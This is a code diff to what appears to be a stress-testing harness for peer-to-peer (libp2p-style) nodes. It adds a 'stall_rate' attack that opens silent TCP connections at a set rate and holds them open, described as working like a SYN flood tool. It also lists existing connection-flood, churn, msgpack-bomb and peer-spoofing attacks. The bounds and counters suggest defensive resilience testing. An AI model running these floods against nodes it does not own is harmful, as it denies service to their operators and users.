@@ -20,6 +20,7 @@ Attacks (the `--key PATH` of a peer key makes the attacker a trusted neighbour):
   conn_flood  `--connections` connections from fresh identities, held open
   churn       connect and disconnect `--connections` times in a row
   stall       TCP connections that never start the handshake
+  stall_rate  TCP connections opened at `--rate` a second that never send a byte (churn)
   plaintext   claim `--claim PEERID` over /plaintext/2.0.0 (refused when only Noise is offered)
 """
 
@@ -42,6 +43,8 @@ MAX_SECONDS = 600.0
 MAX_IDENTITIES = 2000
 MAX_STREAMS = 64
 MAX_BYTES = 1 << 32
+MAX_CONNECTIONS = 20000
+MAX_RATE = 2000.0
 HANDSHAKE_TIMEOUT = 10.0
 
 
@@ -410,6 +413,77 @@ async def stall(target: Target, seconds: float, connections: int = 100) -> dict:
     return out
 
 
+async def stall_rate(target: Target, seconds: float, rate: float = 500.0, connections: int = 2000,
+                     hold: bool = True, linger: float = 0.0) -> dict:
+    """Start a TCP connection every 1/`rate` s (at most `connections` in all) without waiting for
+    it to complete (a non-blocking connect, as a SYN flood tool would), send nothing on any of
+    them, and hold them open (`hold`; else close each at once) until `seconds` are up: connection
+    churn that needs no key and is not slowed down by a full accept queue at the target.
+    Then waits up to `linger` s more until the target closed every one, and counts the
+    connections the target closed (EOF or reset) and those still open."""
+    import errno
+    import socket
+
+    _bounded(connections, MAX_CONNECTIONS, "connections")
+    if not 0 < rate <= MAX_RATE:
+        raise ValueError(f"rate must be in (0, {MAX_RATE:g}], got {rate}")
+    out = {"connections": connections, "opened": 0, "failed": 0, "closed_by_target": 0, "still_open": 0}
+    held: list[socket.socket] = []
+    closed: set[int] = set()
+
+    def all_closed() -> bool:
+        for i, s in enumerate(held):
+            if i not in closed and _closed_by_peer(s):
+                closed.add(i)
+        return len(closed) == len(held)
+
+    try:
+        with trio.move_on_after(min(max(0.0, seconds), MAX_SECONDS)):
+            start = trio.current_time()
+            for i in range(connections):
+                await trio.sleep_until(start + i / rate)
+                try:
+                    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+                except OSError:  # out of file descriptors: what is held stays held
+                    out["failed"] += 1
+                    continue
+                s.setblocking(False)
+                code = s.connect_ex((target.host, target.port))
+                if code not in (0, errno.EINPROGRESS):
+                    out["failed"] += 1
+                    s.close()
+                    continue
+                out["opened"] += 1
+                if hold:
+                    held.append(s)
+                else:
+                    s.close()
+            await trio.sleep_forever()
+        with trio.move_on_after(min(max(0.0, linger), MAX_SECONDS)):
+            while not all_closed():
+                await trio.sleep(0.2)
+    finally:
+        all_closed()
+        out["closed_by_target"], out["still_open"] = len(closed), len(held) - len(closed)
+        for s in held:
+            s.close()
+    return out
+
+
+def _closed_by_peer(s) -> bool:
+    """A non-blocking socket's peer closed it (EOF or reset); what it sent (the target speaks
+    first in multistream-select) is read and dropped, at most 64 KB."""
+    for _ in range(16):
+        try:
+            if not s.recv(4096):
+                return True
+        except BlockingIOError:
+            return False
+        except OSError:  # reset by the target, or never connected
+            return True
+    return False
+
+
 async def plaintext(target: Target, seconds: float, claim: str | None = None) -> dict:
     """Offer /plaintext/2.0.0 claiming `claim`'s PeerId (its public key is in the PeerId)."""
     out = {"claimed": claim, "secured": False, "streams": 0}
@@ -466,7 +540,8 @@ async def _run_all(seconds: float, jobs) -> None:
 
 
 ATTACKS = {"streams": streams, "window": window, "oversize": oversize, "overlong": overlong, "junk": junk,
-           "conn_flood": conn_flood, "churn": churn, "stall": stall, "plaintext": plaintext}
+           "conn_flood": conn_flood, "churn": churn, "stall": stall, "stall_rate": stall_rate,
+           "plaintext": plaintext}
 
 
 def run(attack: str, target: str, seconds: float, **options) -> dict:
@@ -494,6 +569,10 @@ def main(argv: list[str] | None = None) -> int:
     p.add_argument("--megabytes", type=int)
     p.add_argument("--connections", type=int)
     p.add_argument("--parallel", type=int)
+    p.add_argument("--rate", type=float, help="stall_rate: connections opened per second")
+    p.add_argument("--linger", type=float, help="stall_rate: wait this long for the target to close them all")
+    p.add_argument("--no-hold", dest="hold", action="store_false", default=None,
+                   help="stall_rate: close each connection at once")
     p.add_argument("--claim")
     p.add_argument("--body", choices=["bytes", "nested"], help="junk: random-looking bytes or a msgpack bomb")
     p.add_argument("--messages", type=int, help="junk: at most this many messages per identity")
